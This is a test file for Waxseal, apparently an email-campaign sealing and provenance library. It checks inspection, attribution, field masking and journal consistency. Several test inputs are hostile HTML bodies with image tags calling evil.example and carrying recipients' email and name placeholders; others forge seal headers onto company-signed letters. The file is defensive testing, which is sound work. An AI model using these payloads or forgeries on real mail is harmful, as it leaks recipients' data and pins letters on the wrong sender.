import { readFile } from 'node:fs/promises'
import type { Journal, Provider } from '@waxseal/core'
import { memoryJournal } from '@waxseal/journal'
import { dnsFromZone } from '@waxseal/provenance'
import { createTransport } from 'nodemailer'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { edKey, letterOf, signLetter, zoneFor } from '../../../provenance/test/support/signer.js'
import type { ContactSource, LetterTransport, LetterVerdict, Mailbox, Waxseal } from '../../src/index.js'
import { FILE, type Host, letter, OFFICE, startHost, value } from './host.js'

let host: Host
let waxseal: Waxseal
let maria: Mailbox
let ivan: Mailbox

const vip: ContactSource = async function* () {
  yield { email: 'anna.lebed@mail.example', fields: { to_name: 'Anna' } }
}
const accepting: LetterTransport = { send: async () => ({ successful: true, messageId: '1' }) }
const inHouse = { vip: { source: vip } }

function smtp(): LetterTransport {
  const transport = createTransport({ ...host.sandbox.submission, secure: false, ignoreTLS: true })
  return {
    id: 'smtp',
    async send(message) {
      const { content, sender } = message
      await transport.sendMail({
        from: { name: sender.name ?? '', address: sender.address },
        to: message.recipients.map(({ address }) => address),
        subject: message.subject,
        ...('html' in content ? { html: content.html } : {}),
        ...(content.text === undefined ? {} : { text: content.text }),
        headers: Object.fromEntries(message.headers.entries()),
      })
      return { successful: true, messageId: 'x' }
    },
  }
}

beforeAll(async () => {
  host = await startHost()
  host.users.set('ivan', { id: 'ivan', roles: ['sender'], lists: ['spb', 'vip'] })
  waxseal = await host.start({
    lists: { spb: '501', msk: '502', ...inHouse },
    transport: smtp(),
    dns: dnsFromZone({ ...host.sandbox.zone, ...zoneFor('romashka.example', edKey, 's') }),
  })
  value(await (await waxseal.as('crm')).contacts.import('spb', FILE))
  maria = await waxseal.as('maria', OFFICE)
  ivan = await waxseal.as('ivan')
})
afterAll(() => host.stop())

/** The raw letters that a send delivered. */
async function delivered(send: () => Promise<unknown>): Promise<string[]> {
  await host.sandbox.whenIdle()
  const before = new Set(await host.sandbox.letters())
  await send()
  await host.sandbox.whenIdle()
  const fresh = (await host.sandbox.letters()).filter((file) => !before.has(file))
  return Promise.all(fresh.map(async (file) => (await readFile(file)).toString('latin1')))
}

const field = (eml: string, name: string): string =>
  new RegExp(`^${name}: ((?:.|\\r\\n[ \\t])*)`, 'im').exec(eml)?.[1] ?? ''

/** A letter that Maria writes in her ordinary mailbox of the company; the company signs all of them. */
function corporate(body: string, extra = ''): string {
  const draft = letterOf({ from: 'Maria <maria@romashka.example>', to: 'victim@x.example', subject: 'x', body, extra })
  return signLetter(draft, { domain: 'romashka.example' })
}

const judged = (eml: string): Promise<LetterVerdict> => waxseal.verify(Buffer.from(eml, 'latin1'))

describe('what is sent is what was inspected', () => {
  const block = '<div style="color:#999999;font-size:10px">Waxseal: wx_1</div>'
  test.each([
    [
      'blocks that look like a seal, to be cut out',
      `<p>Hi</p><${block}img src="https:/${block}/evil${block}.example/?e={${block}{Email}}">`,
    ],
    [
      'an end of the body inside an attribute',
      '<p title="</body><img src=https:&#10;//evil.example/?e={{to_name}}>">Hi</p>',
    ],
    ['a reference of its own', '<p>Hi</p><p>Waxseal: wx_zzz</p>'],
    ['two references of its own', '<p>Waxseal: wx_a</p><p>Waxseal&#58; wx_b</p>'],
  ])('%s', async (_name, html) => {
    for (const list of ['spb', 'vip']) {
      const answer = await maria.campaigns.send({ list, from: letter.from, subject: 'S', html })
      expect(answer).toMatchObject({ ok: false, stage: 'inspect' })
    }
  })
})

describe('nobody is blamed for a letter of somebody else', () => {
  test('a reference copied into a letter of the company', async () => {
    const sent = value(await ivan.campaigns.send(letter))
    const verdict = await judged(corporate(`Idiot.\r\n\r\nWaxseal: ${sent.seal}\r\n`))
    expect(verdict.record).toBeUndefined()
    expect(verdict.summary).not.toContain(sent.campaign)
  })

  test('a seal header put on top of a letter of the company', async () => {
    const [eml = ''] = await delivered(() => ivan.campaigns.send({ ...letter, list: 'vip' }))
    expect((await judged(`X-Waxseal: ${field(eml, 'X-Waxseal')}\r\n${corporate('Idiot.\r\n')}`)).record).toBeUndefined()
  })

  test('both headers and a recipient whom no signature covers', async () => {
    const [eml = ''] = await delivered(() => ivan.campaigns.send({ ...letter, list: 'vip' }))
    const seal = `X-Waxseal: ${field(eml, 'X-Waxseal')}\r\nX-Waxseal-Recipient: ${field(eml, 'X-Waxseal-Recipient')}\r\n`
    const forged = corporate('Idiot.\r\n', `${seal}X-Original-To: anna.lebed@mail.example\r\n`)
    expect((await judged(forged)).record?.principal).not.toBe('ivan')
  })

  test('a seal of single letters on a campaign of the provider', async () => {
    const [single = ''] = await delivered(() => ivan.campaigns.send({ ...letter, list: 'vip' }))
    const [own = ''] = await delivered(() => maria.campaigns.send(letter))
    const verdict = await judged(`X-Waxseal: ${field(single, 'X-Waxseal')}\r\n${own}`)
    expect(verdict.record?.principal).not.toBe('ivan')
  })

  test('a genuine letter of a campaign whose outcome is not known yet is claimed, and recorded once it is', async () => {
    host.sandbox.fault({ method: 'createCampaign', kind: 'cut-after' })
    const [eml = ''] = await delivered(() => ivan.campaigns.send(letter))
    expect(await judged(eml)).toMatchObject({ kind: 'ours', claim: { principal: 'ivan' } })
    await waxseal.reconcile()
    expect(await judged(eml)).toMatchObject({ kind: 'ours', record: { principal: 'ivan' } })
  })

  test('without an identity nothing is ours: a sender of the policy may be at a public mailbox service', async () => {
    const anonymous = await host.start({ journal: memoryJournal(), identity: undefined } as never)
    await expect(anonymous.verify('From: a@b.example\r\n\r\nx')).rejects.toMatchObject({ code: 'identity-missing' })
  })
})

describe('masks hold in fields that somebody added', () => {
  test('a second phone column', async () => {
    const file = 'email;phone;mobile;phone2\nzoe@mail.example;+70001112299;9161234567;447700900123'
    value(await (await waxseal.as('crm')).contacts.import('msk', file))
    host.users.set('olga', { id: 'olga', roles: ['sender'], lists: ['msk'] })
    const seen = JSON.stringify(value(await (await waxseal.as('olga')).contacts.list('msk')))
    expect(seen).not.toMatch(/9161234567|447700900123/)
  })
})

describe('the record cannot be made to lie', () => {
  test('two look-ups at once: the slower one does not overrule what the faster one found', async () => {
    const waiting: ((campaign: { id: string; status: string; messageId: string } | undefined) => void)[] = []
    let skew = 0
    const provider: Provider = {
      ...host.provider,
      campaigns: {
        ...host.provider.campaigns,
        create: async () => ({
          status: 'unknown',
          fault: { code: 'timeout', category: 'network', retryable: false, outcome: 'unknown' },
          message: 'm',
        }),
        find: () => new Promise((resolve) => waiting.push(resolve)),
      },
    }
    const started = await host.start({
      provider,
      journal: memoryJournal(),
      lists: { spb: '501' },
      clock: () => Date.now() + skew,
    })
    const mail = await started.as('maria', OFFICE)
    await mail.campaigns.send(letter)
    skew = 2 * 60 * 60_000
    const both = [started.reconcile(), started.reconcile()]
    await expect.poll(() => waiting.length).toBe(2)
    waiting[1]?.({ id: '777', status: 'completed', messageId: '1' })
    await both[1]
    waiting[0]?.(undefined)
    await both[0]
    expect(value(await mail.campaigns.list())[0]?.status).toBe('accepted')
  })

  test('a second start on the same journal ends a send that has not left, and that does not leave any more', async () => {
    const journal = memoryJournal()
    let open = (): void => {}
    const gate = new Promise<void>((resolve) => {
      open = resolve
    })
    const provider: Provider = {
      ...host.provider,
      messages: {
        async create(...call) {
          await gate
          return await host.provider.messages.create(...call)
        },
      },
      campaigns: {
        ...host.provider.campaigns,
        create: () => {
          throw new Error('it was sent')
        },
      },
    }
    const first = await host.start({ journal, provider, lists: { spb: '501' } })
    const mail = await first.as('maria', OFFICE)
    const answer = mail.campaigns.send(letter)
    await expect.poll(() => journal.head().size).toBe(3)
    expect((await host.start({ journal, lists: { spb: '501' } })).reconciled).toMatchObject({ open: 1, notSent: 1 })
    open()
    expect(await answer).toMatchObject({ ok: false, code: 'stopped', outcome: 'not-sent' })
    expect(value(await mail.campaigns.list())[0]?.status).toBe('not-sent')
  })

  test('a provider that throws at once may have sent', async () => {
    const create = (): never => {
      throw new Error('anna.lebed@mail.example')
    }
    const provider = { ...host.provider, campaigns: { ...host.provider.campaigns, create } }
    const started = await host.start({ journal: memoryJournal(), provider, lists: { spb: '501' } })
    const answer = await (await started.as('maria', OFFICE)).campaigns.send(letter)
    expect(answer).toMatchObject({ ok: false, outcome: 'unknown' })
    expect(JSON.stringify(answer)).not.toContain('anna')
  })

  test('letters that left are counted even when the count cannot be written', async () => {
    const whole = memoryJournal()
    const journal: Journal = {
      append: async (target, events) => {
        if (events[0]?.type === 'letters.settled') throw new Error('disk')
        return await whole.append(target, events)
      },
      read: (options) => whole.read(options),
      subscribe: (from, listener) => whole.subscribe(from, listener),
      catchUp: () => whole.catchUp(),
      age: () => whole.age(),
      head: () => whole.head(),
      close: () => whole.close(),
    }
    const started = await host.start({ journal, lists: inHouse, transport: accepting })
    const answer = await (await started.as('maria', OFFICE)).campaigns.send({ ...letter, list: 'vip' })
    expect(answer).toMatchObject({
      ok: false,
      outcome: 'unknown',
      message: expect.stringContaining('1 letters had been'),
    })
  })

  test('rows that were skipped are on the record like in the answer', async () => {
    const twice: ContactSource = async function* () {
      yield* vip('vip')
      yield* vip('vip')
    }
    const lists = { vip: { source: twice } }
    const started = await host.start({ journal: memoryJournal(), lists, transport: accepting })
    const mail = await started.as('maria', OFFICE)
    const sent = value(await mail.campaigns.send({ ...letter, list: 'vip' }))
    expect(value(await mail.campaigns.list())[0]?.letters).toEqual(sent.letters)
  })
})

describe('nothing crashes, hangs or widens', () => {
  test('a transport that hangs is left when the call is aborted', async () => {
    const hangs = new AbortController()
    const transport: LetterTransport = {
      send() {
        hangs.abort()
        return new Promise(() => {})
      },
    }
    const started = await host.start({ journal: memoryJournal(), lists: inHouse, transport })
    const mail = await started.as('maria', OFFICE)
    const answer = await mail.campaigns.send({ ...letter, list: 'vip' }, { signal: hangs.signal })
    expect(answer).toMatchObject({ ok: false, outcome: 'unknown' })
  })

  test('a signal that is none, and input that throws when it is read', async () => {
    expect(await maria.contacts.list('spb', { signal: 'x' } as never)).toMatchObject({
      ok: false,
      code: 'input-invalid',
    })
    const trap = {
      get list(): string {
        throw new Error('anna.lebed@mail.example')
      },
    }
    const answer = await maria.campaigns.send(trap as never)
    expect(answer).toMatchObject({ ok: false, outcome: 'not-sent' })
    expect(JSON.stringify(answer)).not.toContain('anna')
  })

  test('a misspelt narrowing is no narrowing, so it is refused', async () => {
    await expect(waxseal.as('ivan', { list: ['none'] } as never)).rejects.toMatchObject({ code: 'context-invalid' })
    await expect(waxseal.as('ivan', null as never)).rejects.toMatchObject({ code: 'context-invalid' })
  })

  test('a refusal stays small, and a file has its bounds', async () => {
    const text = Array.from({ length: 20_000 }, (_unused, index) => `{{a${index}}}`).join(' ')
    const answer = await maria.campaigns.send({ ...letter, text })
    expect(JSON.stringify(answer).length).toBeLessThan(20_000)
    const crm = await waxseal.as('crm')
    expect(await crm.contacts.import('spb', `email\n${'a\n'.repeat(600_000)}`)).toMatchObject({
      ok: false,
      code: 'input-invalid',
    })
  })
})
